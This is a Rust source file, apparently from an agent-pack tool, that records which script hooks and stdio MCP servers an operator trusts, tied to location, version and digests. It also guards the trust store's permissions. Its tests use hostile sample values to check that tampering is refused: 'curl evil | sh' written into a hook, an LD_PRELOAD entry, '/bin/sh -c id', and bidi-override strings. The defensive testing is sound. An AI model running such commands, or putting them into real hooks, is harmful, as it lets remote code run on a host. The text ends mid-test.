//! The operator's trust decisions (spec §13, and DuDuClaw §4.4: hooks land quarantined): what a
//! pack may run on the host, outside the sandbox. Two kinds of things need trust: **script hooks**
//! (any hook that is not a `.wasm` component) and **stdio MCP servers** (a command line the agent
//! starts on the host). Both are recorded in the operator's own store, `<root>/.apiary/trust.json`
//! under the install root (`--root`, `$BUZZ_PACKS_DIR`, else `~/.buzz/packs`):
//! ```json
//! { "packs": { "com.example.pack": { "version": "1.2.0",
//!       "hooks": [ { "path": "hooks/setup.sh", "sha256": "…", "kind": "script",
//!                    "commands": ["./hooks/setup.sh --fast"], "trusted_at": "2026-…Z" } ],
//!       "mcp_servers": [ { "name": "github", "sha256": "…", "command_line": "…", … } ] } },
//!   "dirs": { "/home/op/src/my-pack": { "pack_id": "com.example.pack", "version": "1.2.0", … } } }
//! ```
//! `packs` holds trust for the installed copy `<root>/<pack-id>/` (`apiary trust <pack-id>`),
//! `dirs` for a pack run from anywhere else, by its canonical directory (`apiary trust ./dir`).
//!
//! Trust is bound to where the pack is, the pack id and version *from its manifest*, and the exact
//! content: a hook by its file's SHA-256 and the command lines that run it, an MCP server by the
//! digest of its definition ([`mcp_digest`]). The location matters because a trusted script may run
//! other files of its pack: the same script in someone else's directory is not the same code.
//! Nothing near the pack counts: a `pack.lock` or `.apiary/trust.json` shipped beside a pack is
//! ignored. The store itself is believed only when the operator alone can change it
//! ([`check_private`]).

use crate::dist::code;
use std::collections::BTreeMap;
use std::path::{Path, PathBuf};

use serde::{Deserialize, Serialize};

use super::STATE_DIR;
use super::lock::{HookKind, InstallRecord, Lock};
use super::root::{RootGuard, pack_dir_name};
use super::{DistError, Result};
use crate::pack::mcp::Transport;
use crate::pack::{McpServer, Pack};

mod at_start;
pub mod policy;

pub const TRUST_FILE: &str = "trust.json";
const MAX_STORE: u64 = 16 * 1024 * 1024;

#[derive(Debug, Clone, Default, Serialize, Deserialize)]
pub struct TrustStore {
    /// Installed packs, by pack id.
    #[serde(default)]
    pub packs: BTreeMap<String, PackTrust>,
    /// Packs run from other directories, by canonical directory.
    #[serde(default, skip_serializing_if = "BTreeMap::is_empty")]
    pub dirs: BTreeMap<String, DirTrust>,
}

#[derive(Debug, Clone, Default, Serialize, Deserialize)]
pub struct PackTrust {
    pub version: String,
    #[serde(default)]
    pub hooks: Vec<TrustedHook>,
    #[serde(default, skip_serializing_if = "Vec::is_empty")]
    pub mcp_servers: Vec<TrustedMcp>,
}

/// Trust for a pack directory that is not an installed copy.
#[derive(Debug, Clone, Serialize, Deserialize)]
pub struct DirTrust {
    /// The manifest id the pack had when trusted.
    pub pack_id: String,
    #[serde(flatten)]
    pub trust: PackTrust,
}

#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct TrustedHook {
    pub path: String,
    pub sha256: String,
    pub kind: HookKind,
    /// The command lines (file plus arguments) trusted to run it; a record without any (written
    /// by an older apiary) trusts none, so the operator reviews it again.
    #[serde(default)]
    pub commands: Vec<String>,
    /// A component hook's capabilities (declared in its `.caps.toml`), granted with this digest:
    /// a changed component has none.
    #[serde(default, skip_serializing_if = "Vec::is_empty")]
    pub grants: Vec<String>,
    pub trusted_at: String,
}

#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct TrustedMcp {
    pub name: String,
    /// [`mcp_digest`] of the definition.
    pub sha256: String,
    /// What the operator saw: [`command_line`].
    pub command_line: String,
    pub trusted_at: String,
}

impl TrustStore {
    pub fn path(root: &Path) -> PathBuf {
        root.join(STATE_DIR).join(TRUST_FILE)
    }

    /// Reads the store without ownership checks (for listings; the runtime uses [`TrustView`]).
    pub fn load(root: &Path) -> Result<TrustStore> {
        let path = Self::path(root);
        match std::fs::metadata(&path) {
            Ok(m) if m.len() > MAX_STORE => Err(DistError::new(
                code::Trust::Invalid,
                format!("{} is too large", path.display()),
            )),
            Ok(_) => {
                // Not blocking on a FIFO put in its place, not reading more than the cap.
                let bytes = crate::safe_fs::read_regular(
                    &path,
                    crate::safe_fs::FinalLink::Follow,
                    16 * 1024 * 1024,
                )
                .map_err(|e| DistError::io("cannot read", &path, e))?;
                serde_json::from_slice(&bytes).map_err(|e| {
                    DistError::new(
                        code::Trust::Invalid,
                        format!("{} is not a valid trust store: {e}", path.display()),
                    )
                })
            }
            Err(e) if e.kind() == std::io::ErrorKind::NotFound => Ok(TrustStore::default()),
            Err(e) => Err(DistError::io("cannot read", &path, e)),
        }
    }

    fn save(&self, guard: &RootGuard) -> Result<()> {
        check_store_private(&guard.root)?;
        let path = guard.state.join(TRUST_FILE);
        let mut text = serde_json::to_string_pretty(self)
            .map_err(|e| DistError::new(code::Trust::Write, e.to_string()))?;
        text.push('\n');
        super::write_atomic(&path, &guard.state, text.as_bytes())
            .map_err(|e| DistError::io("cannot write", &path, e))
    }
}

/// The trust store (or the directories holding it) may be changed by someone else.
fn unsafe_store(why: String) -> DistError {
    DistError::new(code::Trust::UnsafeStore, why)
        .help("the trust store decides what runs on this host: make the install root, its .apiary/ and .apiary/trust.json yours and writable only by you (chmod go-w)")
}

/// [`apiary_core::safe_fs::check_private`] as a trust-store error.
pub fn check_private(path: &Path, follow: bool) -> Result<()> {
    apiary_core::safe_fs::check_private(path, follow).map_err(|e| unsafe_store(e.to_string()))
}

/// [`check_private`] for the install root, its `.apiary/` and the store (when they exist).
fn check_store_private(root: &Path) -> Result<()> {
    check_private(root, true)?;
    let state = root.join(STATE_DIR);
    if std::fs::symlink_metadata(&state).is_ok() {
        check_private(&state, false)?;
    }
    let store = state.join(TRUST_FILE);
    if std::fs::symlink_metadata(&store).is_ok() {
        check_private(&store, false)?;
    }
    Ok(())
}

/// A pack being run, as trust sees it: the id and version from its manifest, its canonical root.
#[derive(Debug, Clone)]
pub struct PackRef {
    pub id: String,
    pub version: String,
    pub root: PathBuf,
}

impl PackRef {
    pub fn of(pack: &Pack) -> PackRef {
        PackRef {
            id: pack.manifest.id.clone(),
            version: pack.manifest.version.clone(),
            root: pack.root.clone(),
        }
    }
}

/// The operator's trust store as `apiary up` uses it: read once at start, and only after
/// [`check_private`] passed for the root, its `.apiary/` and the store.
#[derive(Debug, Clone)]
pub struct TrustView {
    root: PathBuf,
    store: TrustStore,
    /// Why the store is not used (unsafe ownership or mode, unreadable): nothing is trusted.
    problem: Option<String>,
}

impl TrustView {
    /// The store of the install root `root`; a missing store trusts nothing.
    pub fn load(root: &Path) -> TrustView {
        let root = root.canonicalize().unwrap_or_else(|_| root.to_path_buf());
        let mut view = TrustView {
            store: TrustStore::default(),
            problem: None,
            root,
        };
        if std::fs::symlink_metadata(TrustStore::path(&view.root)).is_err() {
            return view;
        }
        match check_store_private(&view.root).and_then(|()| TrustStore::load(&view.root)) {
            Ok(store) => view.store = store,
            Err(e) => {
                view.problem = Some(format!("the trust store is not used: {}", e.message));
            }
        }
        view
    }

    /// Why the store is not used, when it is not.
    pub fn problem(&self) -> Option<&str> {
        self.problem.as_deref()
    }

    /// Whether `pack` is the installed copy `<root>/<pack-id>/` of this store's install root.
    pub fn is_installed_copy(&self, pack: &PackRef) -> bool {
        pack_dir_name(&pack.id).is_ok()
            && self
                .root
                .join(&pack.id)
                .canonicalize()
                .is_ok_and(|d| d == pack.root)
    }

    /// The trust recorded for exactly this pack: its location, id and version.
    fn entry(&self, pack: &PackRef) -> Result<&PackTrust> {
        if let Some(p) = &self.problem {
            return Err(DistError::new(code::Trust::Unusable, p.clone()));
        }
        let entry = if self.is_installed_copy(pack) {
            self.store.packs.get(&pack.id).ok_or_else(|| {
                untrusted(format!(
                    "nothing of {} {} was trusted by the operator",
                    pack.id, pack.version
                ))
            })?
        } else {
            self.store
                .dirs
                .get(&*pack.root.to_string_lossy())
                .filter(|d| d.pack_id == pack.id)
                .map(|d| &d.trust)
                .ok_or_else(|| {
                    untrusted(format!(
                        "{} is not the installed copy of {} and the operator never trusted this directory",
                        pack.root.display(),
                        pack.id
                    ))
                })?
        };
        if entry.version != pack.version {
            return Err(DistError::new(
                code::Trust::Version,
                format!(
                    "trust was recorded for version {}, not {}",
                    entry.version, pack.version
                ),
            ));
        }
        Ok(entry)
    }

    /// Whether the script hook `command` (as written, e.g. `./hooks/setup.sh --fast`) of `pack` may
    /// run now: its file's current digest and this command line were trusted. `Err` says why not;
    /// its help is the command that records trust ([`TrustView::remedy`]).
    pub fn hook(&self, pack: &PackRef, command: &str) -> Result<()> {
        self.hook_trusted(pack, command)
            .map_err(|e| e.help(self.remedy(pack)))
    }

    fn hook_trusted(&self, pack: &PackRef, command: &str) -> Result<()> {
        let entry = self.entry(pack)?;
        let (rel, abs) = hook_file(&pack.root, command)?;
        let digest = super::sha256_file(&abs).map_err(|e| DistError::io("cannot read", &abs, e))?;
        match entry.hooks.iter().find(|h| h.path == rel) {
            None => Err(untrusted(format!("{rel} was never trusted"))),
            Some(h) if !h.sha256.eq_ignore_ascii_case(&digest) => Err(DistError::new(
                code::Trust::Changed,
                format!("{rel} changed since it was trusted"),
            )),
            Some(h) if !h.commands.iter().any(|c| c == command) => Err(untrusted(format!(
                "the command line `{command}` was never trusted"
            ))),
            Some(_) => Ok(()),
        }
    }

    /// What the component hook `command` of `pack` was granted: the capabilities recorded when
    /// the operator trusted this file with its current digest (none when it never was, or changed).
    pub fn component_grants(&self, pack: &PackRef, command: &str) -> Vec<String> {
        let Ok(entry) = self.entry(pack) else {
            return Vec::new();
        };
        let Ok((rel, abs)) = hook_file(&pack.root, command) else {
            return Vec::new();
        };
        let Ok(digest) = super::sha256_file(&abs) else {
            return Vec::new();
        };
        entry
            .hooks
            .iter()
            .find(|h| h.path == rel && h.sha256.eq_ignore_ascii_case(&digest))
            .map(|h| h.grants.clone())
            .unwrap_or_default()
    }

    /// Whether the agent may be handed `server` of `pack`: an HTTP server runs nothing here; a
    /// stdio server's definition must have been trusted. `Err` says why not; its help is the
    /// command that records trust ([`TrustView::remedy`]).
    pub fn mcp_server(&self, pack: &PackRef, server: &McpServer) -> Result<()> {
        let Some(digest) = mcp_digest(server) else {
            return Ok(());
        };
        let entry = self.entry(pack).map_err(|e| e.help(self.remedy(pack)))?;
        if entry.mcp_servers.iter().any(|m| m.sha256 == digest) {
            return Ok(());
        }
        let e = if entry.mcp_servers.iter().any(|m| m.name == server.name) {
            DistError::new(
                code::Trust::Changed,
                format!("MCP server `{}` changed since it was trusted", server.name),
            )
        } else {
            untrusted(format!("MCP server `{}` was never trusted", server.name))
        };
        Err(e.help(self.remedy(pack)))
    }

    /// The command that reviews and records trust for `pack` in this store.
    pub fn remedy(&self, pack: &PackRef) -> String {
        let target = if self.is_installed_copy(pack) {
            pack.id.clone()
        } else {
            quote(&pack.root.to_string_lossy())
        };
        let default = crate::paths::install_root(None)
            .ok()
            .and_then(|d| d.canonicalize().ok().or(Some(d)));
        if default.as_deref() == Some(self.root.as_path()) {
            format!("apiary trust {target}")
        } else {
            format!(
                "apiary trust {target} --root {}",
                quote(&self.root.to_string_lossy())
            )
        }
    }
}

/// What the operator never trusted.
fn untrusted(why: String) -> DistError {
    DistError::new(code::Trust::Untrusted, why)
}

/// The pack-relative (`/`-separated) and absolute path of the file a hook command runs.
fn hook_file(pack_root: &Path, command: &str) -> Result<(String, PathBuf)> {
    let token = command.split_whitespace().next().unwrap_or(command);
    let abs = crate::pack::paths::resolve_inside(pack_root, token)
        .map_err(|e| DistError::new(code::Trust::HookPath, format!("hook `{command}`: {e}")))?;
    let rel = crate::pack::paths::relative_to(pack_root, &abs)
        .components()
        .map(|c| c.as_os_str().to_string_lossy().into_owned())
        .collect::<Vec<_>>()
        .join("/");
    Ok((rel, abs))
}

/// The SHA-256 of a stdio MCP server's definition as canonical JSON (fixed key order, env sorted:
/// `{"type":"stdio","name","command","args","env"}` with the values as written, before `${VAR}`
/// interpolation); `None` for an HTTP server.
pub fn mcp_digest(server: &McpServer) -> Option<String> {
    #[derive(Serialize)]
    struct Canonical<'a> {
        r#type: &'static str,
        name: &'a str,
        command: &'a str,
        args: &'a [String],
        env: &'a BTreeMap<String, String>,
    }
    let Transport::Stdio { command, args, env } = &server.transport else {
        return None;
    };
    let json = serde_json::to_vec(&Canonical {
        r#type: "stdio",
        name: &server.name,
        command,
        args,
        env,
    })
    .ok()?;
    Some(super::sha256_hex(&json))
}

/// A stdio server's exact command line for people, shell style: `KEY=value … command args…`, each
/// word quoted when needed and anything but printable ASCII escaped, so that control characters or
/// bidi overrides cannot hide part of it from the reviewer. `None` for an HTTP server.
pub fn command_line(server: &McpServer) -> Option<String> {
    let Transport::Stdio { command, args, env } = &server.transport else {
        return None;
    };
    let words: Vec<String> = env
        .iter()
        .map(|(k, v)| format!("{}={}", quote(k), quote(v)))
        .chain(std::iter::once(quote(command)))
        .chain(args.iter().map(|a| quote(a)))
        .collect();
    Some(words.join(" "))
}

pub use apiary_core::shell::quote;

/// A stdio MCP server of a pack, for review.
#[derive(Debug, Clone, Serialize)]
pub struct McpStatus {
    pub name: String,
    pub command: String,
    pub args: Vec<String>,
    pub env: BTreeMap<String, String>,
    /// [`command_line`]: what the operator reviews.
    pub command_line: String,
    /// [`mcp_digest`]: what trust is recorded for.
    pub sha256: String,
    /// `pack` (`.mcp.json`) or `persona <name>`.
    pub used_by: Vec<String>,
    /// `${VAR}`s it reads from the operator's environment (each needs the pack's `allow_env`).
    pub env_refs: Vec<String>,
    pub trusted: bool,
}

/// Every stdio MCP server the pack defines (pack-level and per persona), one entry per definition.
pub fn mcp_servers(pack: &Pack) -> Vec<McpStatus> {
    let mut out: Vec<McpStatus> = Vec::new();
    let all = pack
        .mcp_servers
        .iter()
        .map(|s| ("pack".to_string(), s))
        .chain(pack.personas.iter().flat_map(|p| {
            p.mcp_servers
                .iter()
                .map(move |s| (format!("persona {}", p.name), s))
        }));
    for (who, s) in all {
        let (Some(sha256), Some(line), Transport::Stdio { command, args, env }) =
            (mcp_digest(s), command_line(s), &s.transport)
        else {
            continue;
        };
        if let Some(seen) = out.iter_mut().find(|m| m.sha256 == sha256) {
            seen.used_by.push(who);
            continue;
        }
        out.push(McpStatus {
            name: s.name.clone(),
            command: command.clone(),
            args: args.clone(),
            env: env.clone(),
            command_line: line,
            sha256,
            used_by: vec![who],
            env_refs: s.env_refs.clone(),
            trusted: false,
        });
    }
    out
}

/// What `apiary trust` records trust for.
#[derive(Debug, Clone)]
pub enum Target {
    /// The installed copy `<root>/<pack-id>/`.
    Installed(String),
    /// Any other pack directory (canonical), with the id its manifest declares.
    Dir { dir: PathBuf, pack_id: String },
}

impl Target {
    pub fn pack_id(&self) -> &str {
        match self {
            Target::Installed(id) | Target::Dir { pack_id: id, .. } => id,
        }
    }
}

/// One hook of a pack with its trust state.
#[derive(Debug, Clone, Serialize)]
pub struct HookStatus {
    pub path: String,
    pub kind: HookKind,
    /// The digest recorded at install time (a pack directory: the file's digest now).
    pub sha256: String,
    pub used_by: Vec<String>,
    pub commands: Vec<String>,
    /// The file on disk still has the recorded digest.
    pub intact: bool,
    pub trusted: bool,
    /// A component hook's declared capabilities (its `.caps.toml`): trusting grants them.
    #[serde(skip_serializing_if = "Vec::is_empty")]
    pub capabilities: Vec<String>,
}

/// Whether `entry` trusts hook `h`: its path, digest and every command line that runs it.
fn hook_trusted_by(entry: &PackTrust, h: &HookStatus) -> bool {
    entry.hooks.iter().any(|t| {
        t.path == h.path
            && t.sha256.eq_ignore_ascii_case(&h.sha256)
            && h.commands.iter().all(|c| t.commands.contains(c))
    })
}

/// The installed version of `pack_id` and the state of each of its hooks.
pub fn status(root: &Path, pack_id: &str) -> Result<(String, Vec<HookStatus>)> {
    pack_dir_name(pack_id)?;
    let lock = Lock::load(root)?;
    let entry = lock.packs.get(pack_id).ok_or_else(|| {
        DistError::new(
            code::Pack::NotInstalled,
            format!("{pack_id} is not installed in {}", root.display()),
        )
        .help("`apiary list` shows the installed packs; a pack directory is trusted as a path: `apiary trust ./my-pack`")
    })?;
    let dir = root.join(pack_id);
    let record = InstallRecord::load(&dir)?.ok_or_else(|| {
        DistError::new(
            code::Trust::NoRecord,
            format!(
                "{} has no install record; reinstall the pack with apiary",
                dir.display()
            ),
        )
    })?;
    let store = TrustStore::load(root)?;
    let trusted = store
        .packs
        .get(pack_id)
        .filter(|p| p.version == entry.version);
    let hooks = record
        .hooks
        .iter()
        .map(|h| {
            let safe = super::archive::check_entry_name(&h.path, &Default::default()).is_ok();
            let on_disk = safe
                .then(|| super::sha256_file(&dir.join(&h.path)).ok())
                .flatten();
            let mut status = HookStatus {
                path: h.path.clone(),
                kind: h.kind,
                sha256: h.sha256.clone(),
                used_by: h.used_by.clone(),
                commands: h.commands.clone(),
                intact: on_disk.as_deref() == Some(h.sha256.as_str()),
                trusted: false,
                capabilities: Vec::new(),
            };
            status.trusted = trusted.is_some_and(|t| hook_trusted_by(t, &status));
            status
        })
        .collect();
    Ok((entry.version.clone(), hooks))
}

/// A pack as `apiary trust` reviews it: what would run on the host, each with its trust state.
#[derive(Debug, Clone, Serialize)]
pub struct Review {
    pub pack_id: String,
    pub version: String,
    pub dir: PathBuf,
    pub hooks: Vec<HookStatus>,
    pub mcp_servers: Vec<McpStatus>,
}

fn load_pack(dir: &Path) -> Result<Pack> {
    let loaded = crate::pack::load(dir);
    loaded.pack.ok_or_else(|| {
        DistError::new(
            code::Pack::Invalid,
            format!("{} is not a valid pack; nothing to trust", dir.display()),
        )
        .with_report(loaded.report)
    })
}

/// Everything of the pack at `target` that needs trust, with its state in the store of `root`.
pub fn review(root: &Path, target: &Target) -> Result<Review> {
    let store = TrustStore::load(root)?;
    let (pack, version, mut hooks, recorded) = match target {
        Target::Installed(id) => {
            let (version, hooks) = status(root, id)?;
            // A pack changed after install may no longer load: say which hook drifted first.
            let pack = load_pack(&root.join(id)).map_err(|e| match drifted(id, &hooks) {
                Some(drift) => drift,
                None => e.help("run `apiary verify` and reinstall the pack"),
            })?;
            let recorded = store.packs.get(id).filter(|p| p.version == version);
            (pack, version, hooks, recorded)
        }
        Target::Dir { dir, pack_id } => {
            let pack = load_pack(dir)?;
            if &pack.manifest.id != pack_id {
                return Err(DistError::new(
                    code::Trust::Changed,
                    format!("{} changed while it was reviewed", dir.display()),
                ));
            }
            let version = pack.manifest.version.clone();
            let hooks = dir_hooks(&pack);
            let recorded = store
                .dirs
                .get(&*dir.to_string_lossy())
                .filter(|d| &d.pack_id == pack_id && d.trust.version == version)
                .map(|d| &d.trust);
            (pack, version, hooks, recorded)
        }
    };
    for h in &mut hooks {
        h.trusted = recorded.is_some_and(|t| hook_trusted_by(t, h));
        h.capabilities = declared_capabilities(&pack.root, h);
    }
    let mut mcp = mcp_servers(&pack);
    for m in &mut mcp {
        m.trusted = recorded.is_some_and(|t| t.mcp_servers.iter().any(|r| r.sha256 == m.sha256));
    }
    Ok(Review {
        pack_id: pack.manifest.id.clone(),
        version,
        dir: pack.root.clone(),
        hooks,
        mcp_servers: mcp,
    })
}

/// The hooks of a pack directory with their files' digests now.
fn dir_hooks(pack: &Pack) -> Vec<HookStatus> {
    super::lock::hook_records(pack, &[])
        .into_iter()
        .map(|h| {
            let digest = crate::pack::paths::resolve_inside(&pack.root, &h.path)
                .ok()
                .and_then(|p| super::sha256_file(&p).ok());
            HookStatus {
                path: h.path,
                kind: h.kind,
                intact: digest.is_some(),
                sha256: digest.unwrap_or_default(),
                used_by: h.used_by,
                commands: h.commands,
                trusted: false,
                capabilities: Vec::new(),
            }
        })
        .collect()
}

/// What the component hook `h` of the pack in `dir` declares in its `.caps.toml` (nothing for a
/// script, or a manifest that does not parse: loading the hook then says why).
fn declared_capabilities(dir: &Path, h: &HookStatus) -> Vec<String> {
    if h.kind != HookKind::Component {
        return Vec::new();
    }
    let Ok(file) = crate::pack::paths::resolve_inside(dir, &h.path) else {
        return Vec::new();
    };
    crate::sandbox::Capabilities::declared_by(&file)
        .map(|c| c.strings())
        .unwrap_or_default()
}

/// The refusal to trust a hook whose file no longer matches its recorded digest, if one does not.
fn drifted(pack_id: &str, hooks: &[HookStatus]) -> Option<DistError> {
    let h = hooks.iter().find(|h| !h.intact)?;
    Some(DistError::new(
        code::Trust::Drift,
        format!(
            "{} in {pack_id} no longer matches the digest recorded at install (or cannot be read); refusing to trust it",
            h.path
        ),
    )
    .help("run `apiary verify` and reinstall the pack"))
}

/// Records trust for what `review` lists of `target`: its hooks when `hooks`, its stdio MCP servers
/// when `mcp`; the other kind keeps what was recorded for the same version. Refuses when a hook file
/// no longer matches its recorded digest.
pub fn record(
    guard: &RootGuard,
    target: &Target,
    review: &Review,
    hooks: bool,
    mcp: bool,
) -> Result<()> {
    if hooks && let Some(drift) = drifted(&review.pack_id, &review.hooks) {
        return Err(drift);
    }
    let mut store = TrustStore::load(&guard.root)?;
    let now = super::now_rfc3339();
    let slot = match target {
        Target::Installed(id) => store.packs.entry(id.clone()).or_default(),
        Target::Dir { dir, pack_id } => {
            let fresh = || DirTrust {
                pack_id: pack_id.clone(),
                trust: PackTrust::default(),
            };
            let d = store
                .dirs
                .entry(dir.to_string_lossy().into_owned())
                .or_insert_with(fresh);
            // Another pack now lives in that directory: nothing of the old one carries over.
            if &d.pack_id != pack_id {
                *d = fresh();
            }
            &mut d.trust
        }
    };
    if slot.version != review.version {
        *slot = PackTrust {
            version: review.version.clone(),
            ..Default::default()
        };
    }
    if hooks {
        slot.hooks = review
            .hooks
            .iter()
            .map(|h| TrustedHook {
                path: h.path.clone(),
                sha256: h.sha256.clone(),
                kind: h.kind,
                commands: h.commands.clone(),
                grants: h.capabilities.clone(),
                trusted_at: now.clone(),
            })
            .collect();
    }
    if mcp {
        slot.mcp_servers = review
            .mcp_servers
            .iter()
            .map(|m| TrustedMcp {
                name: m.name.clone(),
                sha256: m.sha256.clone(),
                command_line: m.command_line.clone(),
                trusted_at: now.clone(),
            })
            .collect();
    }
    store.save(guard)
}

/// Drops every trust decision for `target`; `true` when there was one.
pub fn forget_target(guard: &RootGuard, target: &Target) -> Result<bool> {
    let mut store = TrustStore::load(&guard.root)?;
    let had = match target {
        Target::Installed(id) => store.packs.remove(id).is_some(),
        Target::Dir { dir, .. } => store.dirs.remove(&*dir.to_string_lossy()).is_some(),
    };
    if had {
        store.save(guard)?;
    }
    Ok(had)
}

/// Drops every trust decision for the installed pack `pack_id`; `true` when there was one.
pub fn forget(guard: &RootGuard, pack_id: &str) -> Result<bool> {
    forget_target(guard, &Target::Installed(pack_id.to_string()))
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::pack::mcp::Transport;

    fn stdio(name: &str, command: &str, args: &[&str]) -> McpServer {
        McpServer {
            name: name.into(),
            transport: Transport::Stdio {
                command: command.into(),
                args: args.iter().map(|a| a.to_string()).collect(),
                env: BTreeMap::from([("K".into(), "${V}".into())]),
            },
            env_refs: vec!["V".into()],
        }
    }

    fn write_pack(dir: &Path, id: &str, version: &str, hook: &str) {
        let files = [
            (
                ".plugin/plugin.json".to_string(),
                format!(
                    r#"{{"id": "{id}", "name": "P", "version": "{version}", "personas": ["agents/bee.persona.md"]}}"#
                ),
            ),
            (
                "agents/bee.persona.md".into(),
                "---\nname: bee\ndisplay_name: Bee\ndescription: d\nhooks:\n  on_start: ./hooks/a.sh --x\nmcp_servers:\n  - name: tool\n    command: tool-mcp\n    args: [\"--stdio\"]\n---\nBee.\n".into(),
            ),
            ("hooks/a.sh".into(), hook.to_string()),
        ];
        for (rel, text) in files {
            let p = dir.join(rel);
            std::fs::create_dir_all(p.parent().unwrap()).unwrap();
            std::fs::write(p, text).unwrap();
        }
    }

    fn pack_ref(dir: &Path) -> PackRef {
        PackRef::of(&crate::pack::load(dir).pack.expect("valid pack"))
    }

    #[test]
    fn mcp_digest_covers_the_definition_and_nothing_else() {
        let a = stdio("gh", "gh-mcp", &["stdio"]);
        let d = mcp_digest(&a).unwrap();
        assert_eq!(d, mcp_digest(&a.clone()).unwrap());
        for other in [
            stdio("gh2", "gh-mcp", &["stdio"]),
            stdio("gh", "/bin/sh", &["stdio"]),
            stdio("gh", "gh-mcp", &["stdio", "-x"]),
        ] {
            assert_ne!(d, mcp_digest(&other).unwrap());
        }
        let mut env = a.clone();
        if let Transport::Stdio { env, .. } = &mut env.transport {
            env.insert("LD_PRELOAD".into(), "/tmp/x.so".into());
        }
        assert_ne!(d, mcp_digest(&env).unwrap());
        let http = McpServer {
            name: "h".into(),
            transport: Transport::Http {
                url: "https://x".into(),
                headers: BTreeMap::new(),
            },
            env_refs: vec![],
        };
        assert!(mcp_digest(&http).is_none());
    }

    #[test]
    fn command_lines_cannot_hide_text_from_the_reviewer() {
        let s = stdio(
            "x",
            "/bin/sh",
            &["-c", "touch m; echo 'hi'", "a\rb\u{202e}c\u{1b}[2J"],
        );
        let line = command_line(&s).unwrap();
        assert_eq!(
            line,
            r#"K=${V} /bin/sh -c 'touch m; echo '\''hi'\''' $'a\rb\u{202e}c\u{1b}[2J'"#
        );
        assert!(!line.chars().any(|c| c.is_control()), "{line:?}");
    }

    #[cfg(unix)]
    #[test]
    fn the_store_is_believed_only_when_private() {
        use std::os::unix::fs::PermissionsExt;
        let tmp = tempfile::tempdir().unwrap();
        let root = tmp.path().join("root");
        let guard = RootGuard::acquire(&root, true).unwrap().unwrap();
        let mut store = TrustStore::default();
        store.packs.insert("p".into(), PackTrust::default());
        store.save(&guard).unwrap();
        assert!(TrustView::load(&root).problem().is_none());
        let file = TrustStore::path(&root);
        for (path, mode) in [
            (&file, 0o664),
            (&file, 0o646),
            (&root, 0o775),
            (&root.join(STATE_DIR), 0o777),
        ] {
            let before = std::fs::metadata(path).unwrap().permissions().mode();
            std::fs::set_permissions(path, std::fs::Permissions::from_mode(mode)).unwrap();
            let view = TrustView::load(&root);
            let why = view.problem().expect("refused");
            assert!(why.contains("writable"), "{why}");
            assert!(
                store.save(&guard).is_err(),
                "never written into an unsafe store"
            );
            std::fs::set_permissions(path, std::fs::Permissions::from_mode(before)).unwrap();
        }
        // A store that is a link (to a file someone else prepared) is refused too.
        let elsewhere = tmp.path().join("forged.json");
        std::fs::write(&elsewhere, r#"{"packs": {}}"#).unwrap();
        std::fs::remove_file(&file).unwrap();
        std::os::unix::fs::symlink(&elsewhere, &file).unwrap();
        assert!(
            TrustView::load(&root)
                .problem()
                .unwrap()
                .contains("symbolic link")
        );
    }

    /// Trust is bound to the location, the manifest's id and version, the file's digest and the
    /// command line; a directory's trust does not carry over to a copy elsewhere.
    #[test]
    fn trust_for_a_directory_binds_location_id_version_and_digests() {
        let tmp = tempfile::tempdir().unwrap();
        let root = tmp.path().join("root");
        let dir = tmp.path().join("dev").join("pack");
        write_pack(&dir, "com.example.p", "1.0.0", "#!/bin/sh\necho hi\n");
        let dir = dir.canonicalize().unwrap();
        let guard = RootGuard::acquire(&root, true).unwrap().unwrap();
        let target = Target::Dir {
            dir: dir.clone(),
            pack_id: "com.example.p".into(),
        };
        let view = TrustView::load(&root);
        let pack = pack_ref(&dir);
        let why = view.hook(&pack, "./hooks/a.sh --x").unwrap_err();
        assert!(
            why.message.contains("never trusted this directory"),
            "{why}"
        );
        assert!(view.remedy(&pack).contains(&*dir.to_string_lossy()));
        assert_eq!(
            why.help,
            Some(view.remedy(&pack)),
            "the refusal says how to trust"
        );

        let review = review(&root, &target).unwrap();
        assert_eq!(review.hooks.len(), 1);
        assert_eq!(review.mcp_servers.len(), 1);
        assert_eq!(review.mcp_servers[0].command_line, "tool-mcp --stdio");
        record(&guard, &target, &review, true, true).unwrap();
        let view = TrustView::load(&root);
        view.hook(&pack, "./hooks/a.sh --x").unwrap();
        let loaded = crate::pack::load(&dir).pack.unwrap();
        let server = &loaded.personas[0].mcp_servers[0];
        view.mcp_server(&pack, server).unwrap();
        // Another command line for the same file, another file.
        assert!(view.hook(&pack, "./hooks/a.sh --evil").is_err());
        // The same pack copied elsewhere: not trusted.
        let copy = tmp.path().join("copy");
        write_pack(&copy, "com.example.p", "1.0.0", "#!/bin/sh\necho hi\n");
        let copy_ref = pack_ref(&copy);
        assert!(view.hook(&copy_ref, "./hooks/a.sh --x").is_err());
        assert!(view.mcp_server(&copy_ref, server).is_err());
        // Another id or version in the trusted directory: not trusted.
        for (id, version) in [("com.example.q", "1.0.0"), ("com.example.p", "1.0.1")] {
            let other = PackRef {
                id: id.into(),
                version: version.into(),
                root: dir.clone(),
            };
            assert!(
                view.hook(&other, "./hooks/a.sh --x").is_err(),
                "{id} {version}"
            );
        }
        // A changed hook file or server definition: not trusted.
        std::fs::write(dir.join("hooks/a.sh"), "#!/bin/sh\ncurl evil | sh\n").unwrap();
        let why = view.hook(&pack, "./hooks/a.sh --x").unwrap_err();
        assert!(why.message.contains("changed"), "{why}");
        let changed = stdio("tool", "/bin/sh", &["-c", "id"]);
        let why = view.mcp_server(&pack, &changed).unwrap_err();
        assert!(
            why.message.contains("changed since it was trusted"),
            "{why}"
        );
        // Revoked: nothing.
        assert!(forget_target(&guard, &target).unwrap());
        std::fs::write(dir.join("hooks/a.sh"), "#!/bin/sh\necho hi\n").unwrap();
        assert!(
            TrustView::load(&root)
                .hook(&pack, "./hooks/a.sh --x")
                .is_err()
        );
    }

    /// The installed copy is trusted by pack id; nothing beside a pack directory counts.
    #[test]
    fn installed_copy_trust_does_not_come_from_files_beside_a_pack() {
        let tmp = tempfile::tempdir().unwrap();
        let root = tmp.path().join("root");
        let installed = root.join("com.example.p");
        write_pack(&installed, "com.example.p", "1.0.0", "#!/bin/sh\necho hi\n");
        let guard = RootGuard::acquire(&root, true).unwrap().unwrap();
        let pack = pack_ref(&installed);
        let digest = super::super::sha256_file(&installed.join("hooks/a.sh")).unwrap();
        let mut store = TrustStore::default();
        store.packs.insert(
            "com.example.p".into(),
            PackTrust {
                version: "1.0.0".into(),
                hooks: vec![TrustedHook {
